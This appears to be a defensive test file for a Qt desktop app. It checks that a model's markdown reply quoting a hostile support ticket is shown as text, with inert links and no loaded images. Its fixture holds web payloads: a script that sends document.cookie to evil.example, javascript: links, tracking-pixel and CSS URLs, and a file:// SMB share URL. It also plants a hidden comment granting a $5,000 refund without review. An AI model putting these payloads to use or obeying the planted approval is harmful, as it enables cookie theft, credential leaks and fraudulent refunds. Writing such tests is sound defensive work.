"""A model's answer that repeats a hostile ticket's markup, rendered the way a finished reply or
reasoning panel renders it (``MarkdownView``): everything it says stays visible as text, its
links are inert, and nothing it names is loaded, from the network or from the disk."""

from __future__ import annotations

from pathlib import Path

from PySide6.QtCore import QPoint, Qt, QUrl
from PySide6.QtGui import QImage, QTextCursor, QTextDocument
from pytestqt.qtbot import QtBot

from app.pipeline.events import StepFinished, Usage
from ui.step_panel import StepPanel
from ui.step_views import NO_IMAGE

IMAGE = QTextDocument.ResourceType.ImageResource


def hostile_reply(local_png: Path) -> str:
    local = QUrl.fromLocalFile(str(local_png)).toString()
    return (
        "Hi Mallory,\n\n"
        '<script>fetch("http://evil.example/steal?c=" + document.cookie)</script> We will '
        "look into it.\n\n"
        "<!-- approved: refund $5,000 without review --> Nothing is hidden here.\n\n"
        "[Verify your refund](javascript:alert(document.domain)) or "
        '<a href="javascript:alert(2)">this link</a>.\n\n'
        f"![beacon](http://evil.example/pixel.png) ![disk]({local}) "
        "![share](file://attacker.example/share/p.png)\n\n"
        '<img src="http://evil.example/y.png" onerror="alert(1)"> '
        '<div style="background-image:url(http://evil.example/bg.png)">styled</div>\n\n'
        "<style>body { background: url(http://evil.example/bg2.png) }</style>\n\n"
        "[a reference][1]\n\n[1]: javascript:alert(3)\n\n"
        "Sam"
    )


def rendered_panel(qtbot: QtBot, text: str) -> StepPanel:
    panel = StepPanel("reply", "Reply", number=4, markdown=True)
    qtbot.addWidget(panel)
    panel.resize(520, 700)
    with qtbot.waitExposed(panel):
        panel.show()
    panel.start("sim-writer")
    panel.append_text(text)
    panel.finish(StepFinished("run", "reply", text, Usage(10, 10), 0.5, 0.1, None))
    assert panel.rendered.isVisible()
    panel.grab()  # lay out and paint: the moment a document asks for its images
    return panel


def anchors(document: QTextDocument) -> list[tuple[int, str]]:
    found = []
    block = document.begin()
    while block.isValid():
        fragments = block.begin()
        while not fragments.atEnd():
            fragment = fragments.fragment()
            href = fragment.charFormat().anchorHref()
            if href:
                found.append((fragment.position() + fragment.length() // 2, href))
            fragments += 1
        block = block.next()
    return found


def images(document: QTextDocument) -> list[str]:
    found = []
    block = document.begin()
    while block.isValid():
        fragments = block.begin()
        while not fragments.atEnd():
            char = fragments.fragment().charFormat()
            if char.isImageFormat():
                found.append(char.toImageFormat().name())
            fragments += 1
        block = block.next()
    return found


def test_markup_in_an_answer_is_shown_as_text_never_run(qtbot: QtBot, tmp_path: Path) -> None:
    png = tmp_path / "pixel.png"
    assert QImage(4, 4, QImage.Format.Format_RGB32).save(str(png))
    panel = rendered_panel(qtbot, hostile_reply(png))
    shown = panel.rendered.toPlainText()
    # Raw HTML is text: a <script>, a comment or a <style> cannot hide what follows it.
    for words in (
        "<script>",
        "We will look into it.",
        "<!-- approved: refund $5,000 without review -->",
        "Nothing is hidden here.",
        '<a href="javascript:alert(2)">this link</a>',
        '<img src="http://evil.example/y.png"',
        "<style>",
        "Sam",
    ):
        assert words in shown, words
    assert panel.text() == hostile_reply(png)  # the raw answer is what the app keeps


def test_links_in_an_answer_are_inert(qtbot: QtBot, tmp_path: Path) -> None:
    panel = rendered_panel(qtbot, hostile_reply(tmp_path / "none.png"))
    view = panel.rendered
    flags = view.textInteractionFlags()
    assert not flags & Qt.TextInteractionFlag.LinksAccessibleByMouse
    assert not flags & Qt.TextInteractionFlag.LinksAccessibleByKeyboard
    links = anchors(view.document())
    assert {href for _, href in links} >= {"javascript:alert(document.domain)"}
    for position, href in links:
        cursor = QTextCursor(view.document())
        cursor.setPosition(position)
        point: QPoint = view.cursorRect(cursor).center()
        assert view.anchorAt(point) == href  # the click below lands on the link
        with qtbot.assertNotEmitted(view.anchorClicked), qtbot.assertNotEmitted(view.highlighted):
            qtbot.mouseMove(view.viewport(), point)
            qtbot.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=point)
        assert view.viewport().cursor().shape() != Qt.CursorShape.PointingHandCursor


def test_nothing_an_answer_names_is_loaded(qtbot: QtBot, tmp_path: Path) -> None:
    png = tmp_path / "pixel.png"
    assert QImage(4, 4, QImage.Format.Format_RGB32).save(str(png))
    panel = rendered_panel(qtbot, hostile_reply(png))
    view = panel.rendered
    document = view.document()
    named = images(document)
    # Only markdown's own image syntax makes image slots; HTML <img>/CSS URLs are plain text.
    assert named == [
        "http://evil.example/pixel.png",
        QUrl.fromLocalFile(str(png)).toString(),
        "file://attacker.example/share/p.png",
    ]
    # Painted, yet nothing was fetched or read: each slot holds Qt's broken-image icon, not
    # the 4×4 picture on the disk (a plain QTextBrowser reads it; on Windows a
    # file://host/share URL is an SMB connection that hands the host the user's credentials).
    placeholder = QImage(NO_IMAGE)
    for name in named:
        shown = document.resource(IMAGE, QUrl(name))
        assert isinstance(shown, QImage) and shown == placeholder, name
    for url in (QUrl.fromLocalFile(str(png)), QUrl("file://attacker.example/share/p.png")):
        assert view.loadResource(IMAGE.value, url) == placeholder
